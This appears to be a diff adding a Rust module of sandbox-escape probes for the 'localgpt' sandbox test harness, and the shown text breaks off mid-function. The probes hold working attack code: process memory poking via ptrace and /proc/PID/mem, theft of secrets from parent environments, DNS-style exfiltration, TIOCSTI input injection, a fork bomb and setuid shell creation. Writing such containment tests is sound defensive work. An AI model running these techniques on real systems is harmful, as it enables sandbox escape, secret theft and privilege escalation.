@@ -1,0 +1,1020 @@
+//! Probes: attack functions compiled into the `localgpt` binary (hidden `localgpt sandbox probe
+//! NAME ARGS…`), so that `localgpt sandbox test --full` works on a machine with no compiler.
+//!
+//! Each probe prints [`STARTED`] first (proof that the command really ran), then makes its
+//! attempt with raw syscalls where that matters (i386 `int 0x80`, x32 numbers, io_uring rings)
+//! and prints what it got. Its own report is informative only: the harness decides from outside.
+//! Exit code: 0 the attempt succeeded as far as the probe can tell, 1 it failed, 2 bad usage.
+//!
+//! `@VICTIM_PID@`, `@VICTIM_MARKER@` and `@VICTIM_SECRET@` in a command are replaced by the
+//! victim process ([`victim_main`]) before it starts the command.
+
+#![allow(clippy::missing_safety_doc)]
+
+use std::ffi::CString;
+use std::io::Write;
+use std::sync::atomic::{AtomicU32, Ordering};
+
+/// First line of every probe's output.
+pub const STARTED: &str = "LGPROBE-STARTED";
+
+/// Every probe name (the corpus is validated against this list).
+pub const NAMES: &[&str] = &[
+    "write-file", "append-file", "unlink", "read-file", "symlink-write", "hardlink-write", "rename", "truncate",
+    "chmod", "chown", "utime", "setxattr", "stat", "tcp-connect", "udp-send", "dns-exfil", "raw-udp",
+    "netlink-addaddr", "unix-connect", "unix-dgram", "abstract-connect", "abstract-dgram", "io-uring-socket",
+    "io-uring-openat", "x32-connect", "ia32-connect", "ia32-write", "ptrace-poke", "vm-writev", "procmem-write",
+    "vm-readv", "read-ancestors-environ", "signal", "pidfd-signal", "userns", "fork-bomb", "survivor", "open-fds",
+    "core-dump", "write-flood", "write-big", "tiocsti", "tioclinux-kmsg", "shm-read", "shm-write", "msg-recv",
+    "sem-op", "keyring-read", "open-by-handle", "setid-file", "sethostname", "fd-write", "fd-read", "fd-dir-write",
+    "fd-opath-reopen",
+];
+
+fn c(s: &str) -> CString {
+    CString::new(s.as_bytes()).unwrap_or_default()
+}
+
+fn errno() -> std::io::Error {
+    std::io::Error::last_os_error()
+}
+
+fn say(s: &str) {
+    let mut o = std::io::stdout().lock();
+    let _ = writeln!(o, "{s}");
+    let _ = o.flush();
+}
+
+fn result(ok: bool, what: &str) -> i32 {
+    if ok {
+        say(&format!("ESCAPED? {what}: succeeded"));
+        0
+    } else {
+        say(&format!("blocked? {what}: {}", errno()));
+        1
+    }
+}
+
+fn num<T: std::str::FromStr>(s: &str) -> Option<T> {
+    if let Some(h) = s.strip_prefix("0x") {
+        return u64::from_str_radix(h, 16).ok().and_then(|v| v.to_string().parse().ok());
+    }
+    s.parse().ok()
+}
+
+/// Runs probe `name`; returns the process exit code.
+#[must_use]
+pub fn run(name: &str, args: &[String]) -> i32 {
+    if name == "__victim" {
+        return victim_main(args);
+    }
+    say(STARTED);
+    let a = |i: usize| args.get(i).map(String::as_str).unwrap_or("");
+    let r = std::panic::catch_unwind(|| dispatch(name, args));
+    match r {
+        Ok(Some(code)) => code,
+        Ok(None) => {
+            eprintln!("probe {name}: bad usage ({} args: {:?}); first arg {:?}", args.len(), args, a(0));
+            2
+        }
+        Err(_) => 2,
+    }
+}
+
+// SAFETY (whole module): the probes are deliberately low-level; every unsafe block passes valid
+// pointers to buffers that outlive the call.
+#[allow(clippy::too_many_lines)]
+fn dispatch(name: &str, args: &[String]) -> Option<i32> {
+    let a = |i: usize| args.get(i).map(String::as_str);
+    unsafe {
+        Some(match name {
+            "write-file" => open_write(a(0)?, a(1)?, libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC),
+            "append-file" => open_write(a(0)?, a(1)?, libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND),
+            "unlink" => result(libc::unlink(c(a(0)?).as_ptr()) == 0, "unlink"),
+            "read-file" => read_print(a(0)?),
+            "symlink-write" => {
+                let ok = libc::symlink(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0;
+                say(&format!("symlink: {}", if ok { "ok".into() } else { errno().to_string() }));
+                open_write(a(1)?, a(2)?, libc::O_WRONLY | libc::O_TRUNC)
+            }
+            "hardlink-write" => {
+                let ok = libc::link(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0;
+                say(&format!("link: {}", if ok { "ok".into() } else { errno().to_string() }));
+                open_write(a(1)?, a(2)?, libc::O_WRONLY | libc::O_TRUNC)
+            }
+            "rename" => result(libc::rename(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0, "rename"),
+            "truncate" => result(libc::truncate(c(a(0)?).as_ptr(), 0) == 0, "truncate"),
+            "chmod" => result(libc::chmod(c(a(0)?).as_ptr(), u32::from_str_radix(a(1)?, 8).ok()?) == 0, "chmod"),
+            "chown" => result(libc::chown(c(a(0)?).as_ptr(), num(a(1)?)?, num(a(2)?)?) == 0, "chown"),
+            "utime" => {
+                let ts = [libc::timespec { tv_sec: 0, tv_nsec: 0 }; 2];
+                result(libc::utimensat(libc::AT_FDCWD, c(a(0)?).as_ptr(), ts.as_ptr(), 0) == 0, "utimensat")
+            }
+            "setxattr" => {
+                let v = a(2)?;
+                result(libc::setxattr(c(a(0)?).as_ptr(), c(a(1)?).as_ptr(), v.as_ptr().cast(), v.len(), 0) == 0, "setxattr")
+            }
+            "stat" => {
+                let mut st: libc::stat = std::mem::zeroed();
+                if libc::stat(c(a(0)?).as_ptr(), &mut st) == 0 {
+                    say(&format!("ino={} size={}", st.st_ino, st.st_size));
+                    0
+                } else {
+                    result(false, "stat")
+                }
+            }
+            "tcp-connect" => tcp_connect(num(a(0)?)?, a(1)?),
+            "udp-send" => udp_send(num(a(0)?)?, a(1)?.as_bytes()),
+            "dns-exfil" => {
+                let mut q = vec![0x4c, 0x47, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+                for label in a(1)?.split('.') {
+                    q.push(label.len().min(63) as u8);
+                    q.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
+                }
+                q.extend_from_slice(&[0, 0, 16, 0, 1]);
+                udp_send(num(a(0)?)?, &q)
+            }
+            "raw-udp" => raw_udp(num(a(0)?)?, a(1)?),
+            "netlink-addaddr" => netlink_addaddr(a(0)?),
+            "unix-connect" => unix_stream(a(0)?.as_bytes(), false, a(1)?),
+            "abstract-connect" => unix_stream(a(0)?.as_bytes(), true, a(1)?),
+            "unix-dgram" => unix_dgram(a(0)?.as_bytes(), false, a(1)?),
+            "abstract-dgram" => unix_dgram(a(0)?.as_bytes(), true, a(1)?),
+            "io-uring-socket" => uring::socket_connect(num(a(0)?)?, a(1)?),
+            "io-uring-openat" => uring::open_write(a(0)?, a(1)?),
+            "x32-connect" => x32_connect(num(a(0)?)?, a(1)?),
+            "ia32-connect" => ia32::connect(num(a(0)?)?, a(1)?),
+            "ia32-write" => ia32::write_file(a(0)?, a(1)?),
+            "ptrace-poke" => ptrace_poke(num(a(0)?)?, num(a(1)?)?),
+            "vm-writev" => {
+                let data = *b"PWNED!!!";
+                let local = libc::iovec { iov_base: data.as_ptr() as *mut _, iov_len: 8 };
+                let remote = libc::iovec { iov_base: num::<u64>(a(1)?)? as usize as *mut _, iov_len: 8 };
+                result(libc::process_vm_writev(num(a(0)?)?, &local, 1, &remote, 1, 0) == 8, "process_vm_writev")
+            }
+            "procmem-write" => {
+                let fd = libc::open(c(&format!("/proc/{}/mem", a(0)?)).as_ptr(), libc::O_RDWR);
+                if fd < 0 {
+                    return Some(result(false, "open /proc/PID/mem"));
+                }
+                let addr: u64 = num(a(1)?)?;
+                result(libc::pwrite(fd, b"PWNED!!!".as_ptr().cast(), 8, addr as i64) == 8, "pwrite /proc/PID/mem")
+            }
+            "vm-readv" => {
+                let mut buf = [0u8; 64];
+                let local = libc::iovec { iov_base: buf.as_mut_ptr().cast(), iov_len: 64 };
+                let remote = libc::iovec { iov_base: num::<u64>(a(1)?)? as usize as *mut _, iov_len: 64 };
+                let n = libc::process_vm_readv(num(a(0)?)?, &local, 1, &remote, 1, 0);
+                if n > 0 {
+                    say(&format!("read: {}", String::from_utf8_lossy(&buf[..n as usize])));
+                }
+                result(n > 0, "process_vm_readv")
+            }
+            "read-ancestors-environ" => read_ancestors_environ(),
+            "signal" => result(libc::kill(num(a(0)?)?, num(a(1)?)?) == 0, "kill"),
+            "pidfd-signal" => {
+                let fd = libc::syscall(libc::SYS_pidfd_open, num::<i32>(a(0)?)?, 0) as i32;
+                if fd < 0 {
+                    return Some(result(false, "pidfd_open"));
+                }
+                let sig: i32 = num(a(1)?)?;
+                result(libc::syscall(libc::SYS_pidfd_send_signal, fd, sig, 0usize, 0) == 0, "pidfd_send_signal")
+            }
+            "userns" => userns(a(1)?),
+            "fork-bomb" => fork_bomb(num(a(1)?)?),
+            "survivor" => survivor(a(1)?),
+            "open-fds" => open_fds(num(a(1)?)?),
+            "core-dump" => core_dump(),
+            "write-flood" => write_flood(num(a(0)?)?),
+            "write-big" => write_big(a(0)?, num(a(1)?)?),
+            "tiocsti" => tiocsti(a(0)?, a(1)?, a(2) == Some("highbits")),
+            "tioclinux-kmsg" => tioclinux_kmsg(num(a(0)?)?, a(1) == Some("highbits")),
+            "shm-read" => {
+                let p = libc::shmat(num(a(0)?)?, std::ptr::null(), libc::SHM_RDONLY);
+                if p as isize == -1 {
+                    return Some(result(false, "shmat"));
+                }
+                let s = std::ffi::CStr::from_ptr(p.cast()).to_string_lossy().into_owned();
+                say(&format!("shm: {s}"));
+                0
+            }
+            "shm-write" => {
+                let p = libc::shmat(num(a(0)?)?, std::ptr::null(), 0);
+                if p as isize == -1 {
+                    return Some(result(false, "shmat"));
+                }
+                std::ptr::copy_nonoverlapping(b"PWNED\0".as_ptr(), p.cast::<u8>(), 6);
+                result(true, "shm write")
+            }
+            "msg-recv" => {
+                let mut buf = [0u8; 8 + 256];
+                let n = libc::msgrcv(num(a(0)?)?, buf.as_mut_ptr().cast(), 256, 0, libc::IPC_NOWAIT);
+                if n > 0 {
+                    say(&format!("msg: {}", String::from_utf8_lossy(&buf[8..8 + n as usize])));
+                }
+                result(n > 0, "msgrcv")
+            }
+            "sem-op" => {
+                let mut op = libc::sembuf { sem_num: 0, sem_op: -1, sem_flg: libc::IPC_NOWAIT as i16 };
+                result(libc::semop(num(a(0)?)?, &mut op, 1) == 0, "semop")
+            }
+            "keyring-read" => keyring_read(a(0)?),
+            "open-by-handle" => open_by_handle(a(0)?, a(1)?),
+            "setid-file" => {
+                let fd = libc::open(c(a(0)?).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC, 0o755);
+                if fd >= 0 {
+                    libc::write(fd, b"#!/bin/sh\nexec /bin/sh -p\n".as_ptr().cast(), 25);
+                }
+                let r1 = fd >= 0 && libc::fchmod(fd, 0o6755) == 0;
+                let r2 = libc::chmod(c(a(0)?).as_ptr(), 0o4755) == 0;
+                // Creating the file setuid directly: open(O_CREAT), openat2 (mode in memory), mknod.
+                let umask = libc::umask(0);
+                let r3 = libc::open(c(&format!("{}-open", a(0)?)).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL, 0o4755) >= 0;
+                let how: [u64; 3] = [(libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL) as u64, 0o4755, 0];
+                let r4 = libc::syscall(437, libc::AT_FDCWD, c(&format!("{}-openat2", a(0)?)).as_ptr(), how.as_ptr(), 24usize) >= 0;
+                let r5 = libc::mknod(c(&format!("{}-mknod", a(0)?)).as_ptr(), libc::S_IFREG | 0o4755, 0) == 0;
+                libc::umask(umask);
+                say(&format!("fchmod {r1} chmod {r2} open {r3} openat2 {r4} mknod {r5}"));
+                result(r1 || r2 || r3 || r4 || r5, "setuid file")
+            }
+            "sethostname" => {
+                let n = a(0)?;
+                result(libc::sethostname(n.as_ptr().cast(), n.len()) == 0, "sethostname")
+            }
+            "fd-write" => {
+                let d = a(1)?;
+                result(libc::write(num(a(0)?)?, d.as_ptr().cast(), d.len()) == d.len() as isize, "write(inherited fd)")
+            }
+            "fd-read" => {
+                let mut buf = [0u8; 4096];
+                let n = libc::pread(num(a(0)?)?, buf.as_mut_ptr().cast(), buf.len(), 0);
+                if n > 0 {
+                    say(&format!("read: {}", String::from_utf8_lossy(&buf[..n as usize])));
+                }
+                result(n > 0, "read(inherited fd)")
+            }
+            "fd-dir-write" => {
+                let fd = libc::openat(num(a(0)?)?, c(a(1)?).as_ptr(), libc::O_WRONLY | libc::O_TRUNC | libc::O_CREAT, 0o644);
+                write_fd(fd, a(2)?, "openat(inherited dir fd)")
+            }
+            "fd-opath-reopen" => {
+                let fd = libc::open(c(&format!("/proc/self/fd/{}", a(0)?)).as_ptr(), libc::O_WRONLY | libc::O_TRUNC);
+                write_fd(fd, a(1)?, "reopen O_PATH fd via /proc/self/fd")
+            }
+            _ => return None,
+        })
+    }
+}
+
+unsafe fn write_fd(fd: i32, data: &str, what: &str) -> i32 {
+    if fd < 0 {
+        return result(false, what);
+    }
+    let ok = libc::write(fd, data.as_ptr().cast(), data.len()) == data.len() as isize;
+    libc::close(fd);
+    result(ok, what)
+}
+
+unsafe fn open_write(path: &str, data: &str, flags: i32) -> i32 {
+    write_fd(libc::open(c(path).as_ptr(), flags, 0o644), data, &format!("write {path}"))
+}
+
+fn read_print(path: &str) -> i32 {
+    match std::fs::read(path) {
+        Ok(b) => {
+            say(&format!("read {path}: {}", String::from_utf8_lossy(&b)));
+            0
+        }
+        Err(e) => {
+            say(&format!("blocked? read {path}: {e}"));
+            1
+        }
+    }
+}
+
+fn sockaddr_in(port: u16) -> libc::sockaddr_in {
+    libc::sockaddr_in {
+        sin_family: libc::AF_INET as u16,
+        sin_port: port.to_be(),
+        sin_addr: libc::in_addr { s_addr: u32::from_be_bytes([127, 0, 0, 1]).to_be() },
+        sin_zero: [0; 8],
+    }
+}
+
+unsafe fn tcp_connect(port: u16, data: &str) -> i32 {
+    let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
+    if fd < 0 {
+        return result(false, "socket(AF_INET)");
+    }
+    let sa = sockaddr_in(port);
+    if libc::connect(fd, (&sa as *const libc::sockaddr_in).cast(), std::mem::size_of_val(&sa) as u32) != 0 {
+        return result(false, "connect");
+    }
+    write_fd(fd, data, "tcp send")
+}
+
+unsafe fn udp_send(port: u16, data: &[u8]) -> i32 {
+    let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
+    if fd < 0 {
+        return result(false, "socket(AF_INET, SOCK_DGRAM)");
+    }
+    let sa = sockaddr_in(port);
+    let n = libc::sendto(fd, data.as_ptr().cast(), data.len(), 0, (&sa as *const libc::sockaddr_in).cast(), 16);
+    result(n == data.len() as isize, "sendto udp")
+}
+
+unsafe fn raw_udp(port: u16, data: &str) -> i32 {
+    let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_UDP);
+    if fd < 0 {
+        return result(false, "socket(AF_INET, SOCK_RAW)");
+    }
+    let len = 8 + data.len();
+    let mut pkt = Vec::with_capacity(len);
+    pkt.extend_from_slice(&40000u16.to_be_bytes());
+    pkt.extend_from_slice(&port.to_be_bytes());
+    pkt.extend_from_slice(&(len as u16).to_be_bytes());
+    pkt.extend_from_slice(&[0, 0]);
+    pkt.extend_from_slice(data.as_bytes());
+    let sa = sockaddr_in(0);
+    let n = libc::sendto(fd, pkt.as_ptr().cast(), pkt.len(), 0, (&sa as *const libc::sockaddr_in).cast(), 16);
+    result(n == pkt.len() as isize, "raw sendto")
+}
+
+unsafe fn netlink_addaddr(addr: &str) -> i32 {
+    let ip: std::net::Ipv4Addr = match addr.parse() {
+        Ok(a) => a,
+        Err(_) => return 2,
+    };
+    let fd = libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_ROUTE);
+    if fd < 0 {
+        return result(false, "socket(AF_NETLINK)");
+    }
+    let idx = libc::if_nametoindex(c"lo".as_ptr());
+    let mut m: Vec<u8> = Vec::new();
+    let total: u32 = 16 + 8 + 8 + 8;
+    m.extend_from_slice(&total.to_ne_bytes());
+    m.extend_from_slice(&(libc::RTM_NEWADDR).to_ne_bytes());
+    let flags = (libc::NLM_F_REQUEST | libc::NLM_F_CREATE | libc::NLM_F_EXCL | libc::NLM_F_ACK) as u16;
+    m.extend_from_slice(&flags.to_ne_bytes());
+    m.extend_from_slice(&1u32.to_ne_bytes());
+    m.extend_from_slice(&0u32.to_ne_bytes());
+    m.extend_from_slice(&[libc::AF_INET as u8, 32, 0, 254]);
+    m.extend_from_slice(&idx.to_ne_bytes());
+    for ty in [libc::IFA_LOCAL, libc::IFA_ADDRESS] {
+        m.extend_from_slice(&8u16.to_ne_bytes());
+        m.extend_from_slice(&ty.to_ne_bytes());
+        m.extend_from_slice(&ip.octets());
+    }
+    let mut sa: libc::sockaddr_nl = std::mem::zeroed();
+    sa.nl_family = libc::AF_NETLINK as u16;
+    let n = libc::sendto(fd, m.as_ptr().cast(), m.len(), 0, (&sa as *const libc::sockaddr_nl).cast(), std::mem::size_of_val(&sa) as u32);
+    if n < 0 {
+        return result(false, "netlink sendto");
+    }
+    let mut buf = [0u8; 512];
+    let r = libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), 0);
+    let err = if r >= 20 { i32::from_ne_bytes([buf[16], buf[17], buf[18], buf[19]]) } else { -1 };
+    say(&format!("netlink ack error={err}"));
+    i32::from(err != 0)
+}
+
+fn sockaddr_un(name: &[u8], abstract_ns: bool) -> (libc::sockaddr_un, u32) {
+    // SAFETY: zeroed sockaddr_un is valid.
+    let mut sa: libc::sockaddr_un = unsafe { std::mem::zeroed() };
+    sa.sun_family = libc::AF_UNIX as u16;
+    let off = usize::from(abstract_ns);
+    for (i, b) in name.iter().take(100).enumerate() {
+        sa.sun_path[i + off] = *b as libc::c_char;
+    }
+    let len = 2 + off + name.len().min(100) + usize::from(!abstract_ns);
+    (sa, len as u32)
+}
+
+unsafe fn unix_stream(name: &[u8], abstract_ns: bool, data: &str) -> i32 {
+    let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
+    if fd < 0 {
+        return result(false, "socket(AF_UNIX)");
+    }
+    let (sa, len) = sockaddr_un(name, abstract_ns);
+    if libc::connect(fd, (&sa as *const libc::sockaddr_un).cast(), len) != 0 {
+        return result(false, "connect unix");
+    }
+    write_fd(fd, data, "unix stream send")
+}
+
+unsafe fn unix_dgram(name: &[u8], abstract_ns: bool, data: &str) -> i32 {
+    let mut fd = libc::socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0);
+    if fd < 0 {
+        say(&format!("socket(AF_UNIX, SOCK_DGRAM): {}; trying a socketpair", errno()));
+        let mut sv = [0i32; 2];
+        if libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, sv.as_mut_ptr()) != 0 {
+            return result(false, "socketpair(AF_UNIX, SOCK_DGRAM)");
+        }
+        fd = sv[0];
+    }
+    let (sa, len) = sockaddr_un(name, abstract_ns);
+    let n = libc::sendto(fd, data.as_ptr().cast(), data.len(), 0, (&sa as *const libc::sockaddr_un).cast(), len);
+    if n == data.len() as isize {
+        return result(true, "unix dgram sendto");
+    }
+    say(&format!("sendto: {}; trying sendmsg", errno()));
+    let mut iov = libc::iovec { iov_base: data.as_ptr() as *mut _, iov_len: data.len() };
+    let mut msg: libc::msghdr = std::mem::zeroed();
+    msg.msg_name = (&sa as *const libc::sockaddr_un) as *mut _;
+    msg.msg_namelen = len;
+    msg.msg_iov = &mut iov;
+    msg.msg_iovlen = 1;
+    result(libc::sendmsg(fd, &msg, 0) == data.len() as isize, "unix dgram sendmsg")
+}
+
+const X32_BIT: i64 = 0x4000_0000;
+
+unsafe fn x32_connect(port: u16, data: &str) -> i32 {
+    let fd = libc::syscall(X32_BIT | libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0) as i32;
+    if fd < 0 {
+        return result(false, "x32 socket");
+    }
+    let sa = sockaddr_in(port);
+    if libc::syscall(X32_BIT | libc::SYS_connect, fd, &sa as *const libc::sockaddr_in, 16) != 0 {
+        return result(false, "x32 connect");
+    }
+    let n = libc::syscall(X32_BIT | libc::SYS_write, fd, data.as_ptr(), data.len());
+    result(n == data.len() as i64, "x32 write")
+}
+
+/// i386 system calls through `int 0x80` from 64-bit code. Pointers must be below 4 GiB.
+mod ia32 {
+    use super::{c, result, say};
+
+    /// # Safety
+    /// Raw system call; the pointer arguments must be valid 32-bit addresses.
+    pub unsafe fn int80(nr: u32, a: u32, b: u32, cc: u32) -> i32 {
+        let ret: i32;
+        std::arch::asm!(
+            "xchg {a:r}, rbx",
+            "int 0x80",
+            "xchg {a:r}, rbx",
+            a = inout(reg) u64::from(a) => _,
+            inlateout("eax") nr as i32 => ret,
+            in("ecx") b,
+            in("edx") cc,
+            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
+            out("r12") _, out("r13") _, out("r14") _, out("r15") _,
+        );
+        ret
+    }
+
+    unsafe fn low_page() -> Option<*mut u8> {
+        let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT, -1, 0);
+        if p == libc::MAP_FAILED { None } else { Some(p.cast()) }
+    }
+
+    pub unsafe fn connect(port: u16, data: &str) -> i32 {
+        let Some(page) = low_page() else { return result(false, "mmap MAP_32BIT") };
+        let base = page as usize as u32;
+        // socketcall(SYS_SOCKET, [AF_INET, SOCK_STREAM, 0])
+        let args = page.cast::<u32>();
+        *args = libc::AF_INET as u32;
+        *args.add(1) = libc::SOCK_STREAM as u32;
+        *args.add(2) = 0;
+        let fd = int80(102, 1, base, 0);
+        say(&format!("i386 socketcall(SYS_SOCKET) = {fd}"));
+        if fd < 0 {
+            return 1;
+        }
+        let sa = super::sockaddr_in(port);
+        let sa_ptr = page.add(64);
+        std::ptr::copy_nonoverlapping((&sa as *const libc::sockaddr_in).cast::<u8>(), sa_ptr, 16);
+        *args = fd as u32;
+        *args.add(1) = base + 64;
+        *args.add(2) = 16;
+        let r = int80(102, 3, base, 0);
+        say(&format!("i386 socketcall(SYS_CONNECT) = {r}"));
+        if r != 0 {
+            return 1;
+        }
+        let d = page.add(128);
+        std::ptr::copy_nonoverlapping(data.as_ptr(), d, data.len().min(256));
+        let n = int80(4, fd as u32, base + 128, data.len().min(256) as u32);
+        say(&format!("i386 write = {n}"));
+        i32::from(n <= 0)
+    }
+
+    pub unsafe fn write_file(path: &str, data: &str) -> i32 {
+        let Some(page) = low_page() else { return result(false, "mmap MAP_32BIT") };
+        let base = page as usize as u32;
+        let p = c(path);
+        let pb = p.as_bytes_with_nul();
+        std::ptr::copy_nonoverlapping(pb.as_ptr(), page, pb.len().min(2048));
+        let fd = int80(5, base, (libc::O_WRONLY | libc::O_TRUNC) as u32, 0);
+        say(&format!("i386 open = {fd}"));
+        if fd < 0 {
+            return 1;
+        }
+        std::ptr::copy_nonoverlapping(data.as_ptr(), page.add(2048), data.len().min(1024));
+        let n = int80(4, fd as u32, base + 2048, data.len().min(1024) as u32);
+        say(&format!("i386 write = {n}"));
+        i32::from(n <= 0)
+    }
+}
+
+/// io_uring by hand: one submission at a time.
+mod uring {
+    use super::{c, result, say};
+
+    #[repr(C)]
+    #[derive(Default)]
+    struct SqOff { head: u32, tail: u32, ring_mask: u32, ring_entries: u32, flags: u32, dropped: u32, array: u32, resv1: u32, user_addr: u64 }
+    #[repr(C)]
+    #[derive(Default)]
+    struct CqOff { head: u32, tail: u32, ring_mask: u32, ring_entries: u32, overflow: u32, cqes: u32, flags: u32, resv1: u32, user_addr: u64 }
+    #[repr(C)]
+    #[derive(Default)]
+    struct Params { sq_entries: u32, cq_entries: u32, flags: u32, sq_thread_cpu: u32, sq_thread_idle: u32, features: u32, wq_fd: u32, resv: [u32; 3], sq_off: SqOff, cq_off: CqOff }
+    #[repr(C)]
+    #[derive(Default, Clone, Copy)]
+    struct Sqe { opcode: u8, flags: u8, ioprio: u16, fd: i32, off: u64, addr: u64, len: u32, op_flags: u32, user_data: u64, buf_index: u16, personality: u16, splice_fd_in: i32, addr3: u64, pad: u64 }
+
+    struct Ring { fd: i32, sq: *mut u8, cq: *mut u8, sqes: *mut Sqe, p: Params }
+
+    const OP_OPENAT: u8 = 18;
+    const OP_WRITE: u8 = 23;
+    const OP_CONNECT: u8 = 16;
+    const OP_SEND: u8 = 26;
+    const OP_SOCKET: u8 = 45;
+
+    unsafe fn setup() -> Option<Ring> {
+        let mut p = Params::default();
+        let fd = libc::syscall(libc::SYS_io_uring_setup, 4u32, &mut p as *mut Params) as i32;
+        if fd < 0 {
+            result(false, "io_uring_setup");
+            return None;
+        }
+        let map = |len: usize, off: i64| {
+            let m = libc::mmap(std::ptr::null_mut(), len, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED | libc::MAP_POPULATE, fd, off);
+            if m == libc::MAP_FAILED { None } else { Some(m.cast::<u8>()) }
+        };
+        let sq = map(p.sq_off.array as usize + p.sq_entries as usize * 4, 0)?;
+        let cq = map(p.cq_off.cqes as usize + p.cq_entries as usize * 16, 0x800_0000)?;
+        let sqes = map(p.sq_entries as usize * 64, 0x1000_0000)?.cast::<Sqe>();
+        say("io_uring_setup: ok");
+        Some(Ring { fd, sq, cq, sqes, p })
+    }
+
+    unsafe fn submit(r: &Ring, sqe: Sqe) -> i32 {
+        use std::sync::atomic::{AtomicU32, Ordering};
+        let tail = &*(r.sq.add(r.p.sq_off.tail as usize) as *const AtomicU32);
+        let mask = *(r.sq.add(r.p.sq_off.ring_mask as usize) as *const u32);
+        let t = tail.load(Ordering::Acquire);
+        let idx = t & mask;
+        *r.sqes.add(idx as usize) = sqe;
+        *(r.sq.add(r.p.sq_off.array as usize) as *mut u32).add(idx as usize) = idx;
+        tail.store(t.wrapping_add(1), Ordering::Release);
+        let n = libc::syscall(libc::SYS_io_uring_enter, r.fd, 1u32, 1u32, 1u32, std::ptr::null::<u8>(), 0usize);
+        if n < 0 {
+            result(false, "io_uring_enter");
+            return -1_000_000;
+        }
+        let head = &*(r.cq.add(r.p.cq_off.head as usize) as *const AtomicU32);
+        let cmask = *(r.cq.add(r.p.cq_off.ring_mask as usize) as *const u32);
+        let h = head.load(Ordering::Acquire);
+        let cqe = r.cq.add(r.p.cq_off.cqes as usize + ((h & cmask) as usize) * 16);
+        let res = *(cqe.add(8) as *const i32);
+        head.store(h.wrapping_add(1), Ordering::Release);
+        res
+    }
+
+    pub unsafe fn socket_connect(port: u16, data: &str) -> i32 {
+        let Some(r) = setup() else { return 1 };
+        let fd = submit(&r, Sqe { opcode: OP_SOCKET, fd: libc::AF_INET, off: libc::SOCK_STREAM as u64, ..Default::default() });
+        say(&format!("io_uring socket = {fd}"));
+        if fd < 0 {
+            return 1;
+        }
+        let sa = super::sockaddr_in(port);
+        let rc = submit(&r, Sqe { opcode: OP_CONNECT, fd, addr: &sa as *const _ as u64, off: 16, ..Default::default() });
+        say(&format!("io_uring connect = {rc}"));
+        let n = submit(&r, Sqe { opcode: OP_SEND, fd, addr: data.as_ptr() as u64, len: data.len() as u32, ..Default::default() });
+        say(&format!("io_uring send = {n}"));
+        i32::from(n <= 0)
+    }
+
+    pub unsafe fn open_write(path: &str, data: &str) -> i32 {
+        let Some(r) = setup() else { return 1 };
+        let p = c(path);
+        let fd = submit(&r, Sqe { opcode: OP_OPENAT, fd: libc::AT_FDCWD, addr: p.as_ptr() as u64, len: 0o644, op_flags: (libc::O_WRONLY | libc::O_TRUNC) as u32, ..Default::default() });
+        say(&format!("io_uring openat = {fd}"));
+        if fd < 0 {
+            return 1;
+        }
+        let n = submit(&r, Sqe { opcode: OP_WRITE, fd, addr: data.as_ptr() as u64, len: data.len() as u32, ..Default::default() });
+        say(&format!("io_uring write = {n}"));
+        i32::from(n <= 0)
+    }
+}
+
+unsafe fn ptrace_poke(pid: i32, addr: u64) -> i32 {
+    if libc::ptrace(libc::PTRACE_ATTACH, pid, 0usize, 0usize) != 0 {
+        return result(false, "ptrace(PTRACE_ATTACH)");
+    }
+    let mut st = 0;
+    libc::waitpid(pid, &mut st, libc::__WALL);
+    let word = u64::from_ne_bytes(*b"PWNED!!!");
+    let ok = libc::ptrace(libc::PTRACE_POKEDATA, pid, addr as usize, word as usize) == 0;
+    libc::ptrace(libc::PTRACE_DETACH, pid, 0usize, 0usize);
+    result(ok, "ptrace(PTRACE_POKEDATA)")
+}
+
+fn read_ancestors_environ() -> i32 {
+    let mut pid = std::os::unix::process::parent_id() as i32;
+    let mut found = false;
+    for _ in 0..32 {
+        if pid <= 1 {
+            break;
+        }
+        match std::fs::read(format!("/proc/{pid}/environ")) {
+            Ok(b) => {
+                for var in b.split(|&x| x == 0) {
+                    let s = String::from_utf8_lossy(var);
+                    if s.contains("lgsecret") {
+                        say(&format!("pid {pid}: {s}"));
+                        found = true;
+                    }
+                }
+            }
+            Err(e) => say(&format!("pid {pid}: environ: {e}")),
+        }
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+        let after = stat.rsplit_once(')').map_or("", |x| x.1);
+        pid = after.split_whitespace().nth(1).and_then(|x| x.parse().ok()).unwrap_or(0);
+    }
+    i32::from(!found)
+}
+
+/// Detaches stdio so a lingering process does not hold the caller's pipes.
+unsafe fn detach_stdio() {
+    let fd = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
+    if fd >= 0 {
+        for t in 0..3 {
+            libc::dup2(fd, t);
+        }
+    }
+}
+
+unsafe fn linger() -> ! {
+    loop {
+        libc::pause();
+    }
+}
+
+/// Forks a child that tries `f`; when `f` succeeds the child lingers (so the monitor sees it);
+/// the parent waits for the child.
+unsafe fn in_child_linger_on_success(what: &str, f: impl FnOnce() -> bool) -> i32 {
+    let pid = libc::fork();
+    if pid == 0 {
+        let ok = f();
+        say(&format!("{what}: {}", if ok { "succeeded".to_string() } else { errno().to_string() }));
+        if ok {
